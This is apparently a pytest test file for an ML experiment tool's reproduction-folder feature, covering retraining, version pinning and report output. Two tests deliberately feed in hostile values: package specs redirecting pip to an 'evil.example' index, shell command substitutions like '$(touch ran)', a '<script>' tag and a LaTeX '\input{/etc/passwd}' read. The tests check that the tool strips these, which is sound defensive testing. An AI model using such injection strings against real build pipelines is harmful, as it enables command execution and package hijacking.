"""Reproduction folders train everything again and compare the numbers."""

import json
import sqlite3
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from command_line_runner import QUICK, Nnlab

from nnlab.report.reproduce import _toml_literal
from nnlab.report.reproduce.lock import build_lock

BIN = Path(sys.executable).parent


def make_reproduce(folder: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["make", "-C", str(folder), "reproduce", f"BIN={BIN}"],
        capture_output=True,
        text=True,
        check=False,
    )


def test_everything_is_trained_again_and_agrees_to_the_last_bit(
    nnlab: Nnlab, tmp_path: Path
) -> None:
    nnlab("init-study", "s", *QUICK, "--opt", "sgd,adam", "--dropout", "0,0.3", "--seeds", "3")
    nnlab("train", "--study", "s", "-q", "--engine", "solo")
    nnlab("report", "s", "--reproduce", "again")
    done = make_reproduce(tmp_path / "again")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "4 of 4 trials agree on val/accuracy" in done.stdout
    assert "3 of 3 runs equal to the last bit" in done.stdout
    text = (tmp_path / "again" / "requirements.txt").read_text()
    assert "torch==" in text
    assert "+cpu" not in text


def test_a_number_that_differs_is_an_error(nnlab: Nnlab, tmp_path: Path) -> None:
    nnlab("train", *QUICK, "-q")
    nnlab("report", "--reproduce", "again")
    path = tmp_path / "again" / "expected.json"
    expected = json.loads(path.read_text())
    expected["trials"][0]["runs"][0]["value"] += 0.5
    path.write_text(json.dumps(expected))
    done = make_reproduce(tmp_path / "again")
    assert done.returncode == 2
    assert "DIFF" in done.stdout
    assert "0 of 1 trials agree" in done.stdout


def test_a_folder_with_something_in_it_is_left_alone(nnlab: Nnlab, tmp_path: Path) -> None:
    nnlab("train", *QUICK, "-q")
    (tmp_path / "again").mkdir()
    (tmp_path / "again" / "mine").write_text("")
    assert "already exists" in nnlab("report", "--reproduce", "again", expect=None).err
    assert [path.name for path in (tmp_path / "again").iterdir()] == ["mine"]


@pytest.mark.parametrize("words", [(), ("s",)])
def test_nothing_trained_is_nothing_to_reproduce(nnlab: Nnlab, words: tuple[str, ...]) -> None:
    nnlab("init-study", "s", *QUICK)
    answer = nnlab("report", *words, "--reproduce", "again", expect=2)
    assert "nothing to reproduce" in answer.err


def test_runs_that_began_with_others_say_what_is_missing(nnlab: Nnlab) -> None:
    nnlab("train", *QUICK, "-q", "--name", "base")
    nnlab("train", *QUICK, "-q", "--from", "base", "--lr", "0.01")
    assert "started from the weights" in nnlab("report", "--reproduce", "again", expect=2).err


MODEL = """from torch import nn
def small(in_features, num_classes):
    return nn.Linear(in_features, num_classes)
"""


def test_a_model_of_ones_own_comes_along_if_it_is_still_the_same(
    nnlab: Nnlab, tmp_path: Path
) -> None:
    (tmp_path / "model.py").write_text(MODEL)
    nnlab("train", "--data", "iris", "--model", "model.py:small", "--epochs", "2", "-q")
    nnlab("report", "--reproduce", "again")
    assert (tmp_path / "again" / "model.py").read_text() == MODEL
    done = make_reproduce(tmp_path / "again")
    assert done.returncode == 0, done.stdout + done.stderr
    (tmp_path / "model.py").write_text(MODEL + "# changed\n")
    assert "has changed" in nnlab("report", "--reproduce", "other", expect=2).err


def test_data_of_ones_own_are_named(nnlab: Nnlab, tmp_path: Path) -> None:
    rows = "".join(f"{i % 7},{i % 5},{'ab'[i % 7 > 3]}\n" for i in range(60))
    (tmp_path / "points.csv").write_text("x,y,kind\n" + rows)
    nnlab("train", "--data", "csv:points.csv#kind", "--epochs", "2", "-q")
    nnlab("report", "--reproduce", "again")
    text = (tmp_path / "again" / "README.md").read_text()
    assert (
        "needs these data files, with paths relative to this folder: `csv:points.csv#kind`" in text
    )


def test_runs_that_failed_are_not_asked_for_again(nnlab: Nnlab, tmp_path: Path) -> None:
    (tmp_path / "model.py").write_text(MODEL.replace("return nn", "raise ValueError; return nn"))
    nnlab("train", "--data", "iris", "--model", "model.py:small", "--epochs", "2", expect=1)
    assert "nothing to reproduce" in nnlab("report", "--reproduce", "again", expect=2).err
    nnlab("train", *QUICK, "-q")
    nnlab("report", "--reproduce", "again")
    assert len(list((tmp_path / "again" / "trials").iterdir())) == 1


def say_in_database(folder: Path, sql: str, *bound: object) -> None:
    with sqlite3.connect(folder / "runs.db") as connection:
        connection.execute(sql, bound)
    connection.close()


def test_a_database_of_somebody_else_chooses_no_packages(nnlab: Nnlab, folder: Path) -> None:
    nnlab("train", *QUICK, "-q")
    packages = {
        "torch": "2.6.0+cpu",
        "numpy": "2.0\n--index-url https://evil.example",
        "scipy": "1.10 ; os_name == 'posix'",
        "matplotlib": "3.9 --hash=sha256:0",
        "rich": "@ https://evil.example/rich.whl",
        "--index-url https://evil.example #": "1.0",
        "evil-package": "1.0",
        "typer": "$(touch ran)",
    }
    say_in_database(folder, "UPDATE environment SET packages = ?", json.dumps(packages))
    answer = nnlab("report", "--reproduce", "again")
    assert "7 packages left out" in answer.out
    assert (folder / "again" / "requirements.txt").read_text() == "torch==2.6.0\n"
    text = " ".join((folder / "again" / "README.md").read_text().split())
    assert "7 packages of the recorded environment are not in `requirements.txt`" in text
    for path in (folder / "again").rglob("*"):
        assert path.is_dir() or "evil" not in path.read_text()


@pytest.mark.parametrize(
    "version", ["2.6.0", "1!2.0", "2.0rc1", "2.0.post1", "2.0.dev20250101", "3", "2.0b2.post3.dev4"]
)
def test_versions_as_indexes_have_them_are_taken(version: str) -> None:
    assert build_lock({"torch": version}).text == f"torch=={version}\n"


@pytest.mark.parametrize(
    "text", ["plain", 'a "quoted" \\ path', "two\nlines = 1", "\x7f\x1b[2J", "é 😀 日本", "\ud800"]
)
def test_any_text_is_a_toml_value_on_one_line(text: str) -> None:
    line = f"name = {_toml_literal(text)}"
    assert line.isascii()
    assert line.isprintable()
    assert tomllib.loads(line)["name"] == text.replace("\ud800", "?")


def test_texts_of_the_database_are_no_markup_in_what_is_written(nnlab: Nnlab, folder: Path) -> None:
    nnlab("train", *QUICK, "-q")
    evil = "x\n\n# $(touch ran) `touch ran` <script>\x1b[2J \\input{/etc/passwd}"
    say_in_database(folder, "UPDATE environment SET device = ?, torch = ?, nnlab = ?", *[evil] * 3)
    say_in_database(folder, "UPDATE attempt SET command = ?", evil)
    say_in_database(
        folder,
        "INSERT INTO finding (run_id, code, name, severity, confidence, onset, message, remedy,"
        " evidence, created_at) VALUES (1, ?, ?, 'warning', 1.0, 1, ?, ?, '{}', '2026-05-20')",
        *[evil] * 4,
    )
    nnlab("report", "--reproduce", "again")
    nnlab("report", "-o", "r.md")
    nnlab("report", "-o", "r.tex")
    for name in ("again/README.md", "again/Makefile", "again/expected.json", "r.md"):
        lines = (folder / name).read_text().splitlines()
        assert not [line for line in lines if line.startswith("# $(")], name
        assert not [line for line in lines if "<script>" in line and not line.startswith("    ")]
        assert "\x1b" not in "".join(lines), name
    assert "$(touch" not in (folder / "again" / "Makefile").read_text()
    tex = (folder / "r.tex").read_text()
    assert "\\input{/etc" not in tex
    assert "\n# $" not in tex


def test_a_model_under_the_name_of_a_file_of_the_folder_is_refused(
    nnlab: Nnlab, folder: Path
) -> None:
    (folder / "check.py").write_text(MODEL)
    nnlab("train", "--data", "iris", "--model", "check.py:small", "--epochs", "2", "-q")
    answer = nnlab("report", "--reproduce", "again", expect=2)
    assert "check.py cannot be copied to the new folder" in answer.err


def _set_version(monkeypatch: pytest.MonkeyPatch, version: str) -> None:
    """Sets the version of nnlab in every module that imports it."""
    for module in list(sys.modules.values()):
        if module.__name__.startswith("nnlab.") and hasattr(module, "nnlab_version"):
            monkeypatch.setattr(module, "nnlab_version", lambda: version)


@pytest.mark.parametrize(
    ("version", "source"),
    [
        ("0.1.1.dev3+g2450a77", "a checkout of nnlab at commit 2450a77"),
        ("0.1.1.dev3+g2450a77.d20260520", "a checkout of nnlab at commit 2450a77"),
        ("0+g2450a77", "a checkout of nnlab at commit 2450a77"),
        ("0.1.0.dev0", "its checkout of nnlab"),
        ("0+unknown", "its checkout of nnlab"),
    ],
)
def test_a_development_version_is_no_requirement_of_pip(
    nnlab: Nnlab, folder: Path, monkeypatch: pytest.MonkeyPatch, version: str, source: str
) -> None:
    _set_version(monkeypatch, version)
    nnlab("train", *QUICK, "-q")
    nnlab("report", "--reproduce", "again")
    command = ["make", "-C", "again", "reproduce"]
    answer = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    assert answer.returncode == 2
    assert f"nnlab {version} is a development version" in answer.stderr
    assert f"'make wheel' in {source}, then run 'make reproduce NNLAB=" in answer.stderr
    assert not (folder / "again" / ".venv").exists()
    assert f"'make wheel' in {source}" in (folder / "again" / "README.md").read_text()
    command = ["make", "-n", "-C", "again", "reproduce", "NNLAB=/tmp/nnlab.whl"]
    answer = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=True)
    assert 'install --quiet -r requirements.txt "/tmp/nnlab.whl"' in answer.stdout


@pytest.mark.parametrize("version", ["0.1.0", "1.0rc1", "1.0.post1"])
def test_a_released_version_is_installed_by_its_number(
    nnlab: Nnlab, folder: Path, monkeypatch: pytest.MonkeyPatch, version: str
) -> None:
    _set_version(monkeypatch, version)
    nnlab("train", *QUICK, "-q")
    nnlab("report", "--reproduce", "again")
    command = ["make", "-n", "-C", "again", "reproduce"]
    answer = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=True)
    assert f'install --quiet -r requirements.txt "nnlab=={version}"' in answer.stdout
    assert "development version" not in (folder / "again" / "README.md").read_text()


def test_every_kind_of_report_accepts_a_development_version(
    nnlab: Nnlab, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    version = "0.1.1.dev3+g2450a77"
    _set_version(monkeypatch, version)
    nnlab("train", *QUICK, "-q")
    for name in ("r.html", "r.md", "r.tex"):
        nnlab("report", "-o", name)
        nnlab("report", "-o", name)  # a report of nnlab is replaced
        assert version in (folder / name).read_text().replace("\\", "")
    for name in ("c.png", "c.pdf", "c.svg", "c.pgf"):
        nnlab("plot", "curves", "-o", name)
        nnlab("plot", "--check", name)
    (run,) = nnlab("show", "1", "--format", "json").json
    assert run["attempts"][0]["environment"]["nnlab"] == version
    assert version in nnlab("compare", "--format", "latex").out
